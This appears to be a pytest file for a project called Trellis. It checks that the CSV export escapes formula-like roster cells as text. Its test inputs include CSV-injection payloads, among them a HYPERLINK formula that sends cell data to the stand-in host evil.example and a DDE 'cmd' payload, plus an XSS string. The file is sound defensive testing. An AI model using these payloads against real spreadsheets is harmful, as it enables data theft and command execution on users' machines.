"""Every CSV Trellis writes keeps roster names as text, never formulas."""

from __future__ import annotations

import csv
import io

import pytest

from trellis.interop.csv_export import inert_cell, write_csv


@pytest.mark.parametrize(("given", "written"), [
    ('=HYPERLINK("http://evil.example/?"&A1,"Click")', '\'=HYPERLINK("http://evil.example/?"&A1,"Click")'),
    ("+1+cmd|' /C calc'!A0", "'+1+cmd|' /C calc'!A0"),
    ("-2+3", "'-2+3"),
    ("@SUM(A1:A9)", "'@SUM(A1:A9)"),
    ("\t=1+1", "'\t=1+1"),
    ("  =1+1", "'  =1+1"),
    ("＝1+1", "'＝1+1"),
    ("O'Brien-Smith", "O'Brien-Smith"),
    ("<script>alert(1)</script>", "<script>alert(1)</script>"),
    (-5, -5),
    (2.5, 2.5),
    (None, ""),
])
def test_cells_that_would_be_formulas_become_text(given, written):
    assert inert_cell(given) == written


def test_write_csv_makes_every_cell_inert_and_round_trips():
    handle = io.StringIO(newline="")
    count = write_csv(handle, ["name", "=role"], [["=HYPERLINK(\"x\")", "teacher"], ["Ana, \"Li\"", -3]])
    assert count == 2
    assert list(csv.reader(io.StringIO(handle.getvalue()))) == [
        ["name", "'=role"], ["'=HYPERLINK(\"x\")", "teacher"], ["Ana, \"Li\"", "-3"]]
